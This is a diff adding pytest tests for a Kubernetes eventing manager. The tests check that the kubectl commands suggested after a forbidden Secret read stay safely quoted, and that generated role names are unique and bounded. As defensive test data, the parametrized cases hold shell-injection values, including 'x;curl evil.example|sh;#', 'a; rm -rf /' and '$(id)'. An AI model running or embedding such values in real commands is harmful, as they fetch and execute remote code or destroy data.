@@ -1,11 +1,15 @@
 """The Secret of EventMesh is usable, or it is said what it lacks."""
 
 import json
+import shlex
 
 import pytest
 from manager_definitions import endpoint, secret
 
-from eventing_manager.eventmesh import missing_keys
+from eventing_manager.eventmesh import missing_keys, role_name, secret_found
+from eventing_manager.reasons import Reason
+from kubeloop.errors import ForbiddenError
+from kubeloop.resource import ObjectKey
 
 LISTED_FIRST = {"broker": {"type": "sapmgw"}, "uri": "wss://other"}
 NO_JSON = "a JSON list in key messaging"
@@ -102,3 +106,57 @@ def test_a_secret_without_content_lacks_its_first_key(data):
     first, *_ = missing_keys({"kind": "Secret", "data": data})
 
     assert first == "key namespace"
+
+
+class Forbidding:
+    """An API server that lets nobody read a Secret."""
+
+    async def get(self, _kind, name, _namespace):
+        raise ForbiddenError(403, "Forbidden", f"secrets {name!r} is forbidden", method="GET", path="/")
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        ObjectKey("shop", "mesh"),
+        ObjectKey("a; rm -rf /", "x;curl evil.example|sh;#"),
+        ObjectKey("n", "'$(id)"),
+    ],
+)
+async def test_the_commands_that_allow_a_secret_are_two_whatever_its_name(key):
+    found = await secret_found(Forbidding(), key, "kyma-system")
+
+    words = shlex.split(found.message.partition("allow it: ")[2])
+    first, second = words[: words.index("&&")], words[words.index("&&") + 1 :]
+    role = role_name(key.name)
+    assert found.reason is Reason.SECRET_FORBIDDEN
+    assert first == [
+        "kubectl", "-n", key.namespace, "create", "role", role,
+        "--verb=get,list,watch", "--resource=secrets", f"--resource-name={key.name}",
+    ]  # fmt: skip
+    assert second == [
+        "kubectl", "-n", key.namespace, "create", "rolebinding", role,
+        f"--role={role}", "--serviceaccount=kyma-system:eventing-controller-manager",
+    ]  # fmt: skip
+
+
+def test_the_role_of_a_secret_is_no_other_role():
+    names = [
+        "backend",
+        "leader-election",
+        "eventmesh-a",
+        "a",
+        "a" * 226,
+        "a" * 227,
+        "a" * 252 + "b",
+        "a" * 253,
+    ]
+
+    roles = [role_name(name) for name in names]
+
+    assert roles[0] == "eventing-manager-eventmesh-backend"
+    assert len(set(roles)) == len(names)
+    assert max(len(role) for role in roles) <= 253
+    assert not {"eventing-manager-backend", "eventing-manager-leader-election"} & set(roles)
+    # What stands for a long name can be no short one's.
+    assert role_name(roles[-1].partition("eventmesh")[2][1:]) != roles[-1]
